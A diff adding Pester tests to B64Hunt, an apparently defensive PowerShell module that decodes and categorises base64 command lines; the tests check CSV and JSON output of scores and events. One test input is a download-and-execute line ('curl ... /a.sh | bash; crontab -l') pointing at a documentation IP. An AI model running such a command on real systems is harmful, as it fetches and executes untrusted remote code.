@@ -399,3 +399,29 @@ Describe 'Deserialized objects (Import-Clixml, Receive-Job) are accepted by ever
         $err.FullyQualifiedErrorId | Should -Be 'UnsupportedInputObject,B64Hunt.Commands.AddB64CategoryCommand'
     }
 }
+
+Describe 'Export-Csv writes list values joined' {
+    It 'writes "a; b" for every list of a CommandScore and a CommandEvent, not the list type name' {
+        $feed = Join-Path (Get-Module B64Hunt).ModuleBase 'data/sample/ti-feed.csv'
+        $events = Get-B64Command -Sample -ErrorAction SilentlyContinue | Add-B64Category | Add-GtfoBinsTag | Find-B64Ioc | Invoke-B64TiLookup -LocalFeed $feed
+        $scores = $events | Measure-B64Score -Alert (Get-B64RelatedAlert -Sample)
+        $csv = Join-Path $Work 'scores.csv'
+        $scores | Export-Csv -LiteralPath $csv
+        $text = Get-Content -Raw -LiteralPath $csv
+        $text | Should -Not -BeLike '*System.Collections.Generic*'
+        $text | Should -Not -BeLike '*JoinedList*'
+        $rows = Import-Csv -LiteralPath $csv
+        $multi = $scores | Where-Object { $_.Hostnames.Count -ge 2 -and $_.Categories.Count -ge 1 } | Select-Object -First 1
+        $row = $rows | Where-Object DecodedCommand -eq $multi.DecodedCommand
+        $row.Hostnames | Should -Be ($multi.Hostnames -join '; ')
+        $row.Categories | Should -Be ($multi.Categories -join '; ')
+        ($events | Select-Object -First 5 | ConvertTo-Csv) -join "`n" | Should -Not -BeLike '*System.Collections.Generic*'
+    }
+
+    It 'keeps lists as lists for the pipeline and JSON' {
+        $e = 'curl -s http://203.0.113.7/a.sh | bash; crontab -l' | Add-B64Category
+        $e.Categories.Count | Should -BeGreaterThan 1
+        $e.Categories -contains 'Network connections/Downloading' | Should -BeTrue
+        ($e | ConvertTo-Json -Depth 3 | ConvertFrom-Json).Categories.Count | Should -Be $e.Categories.Count
+    }
+}
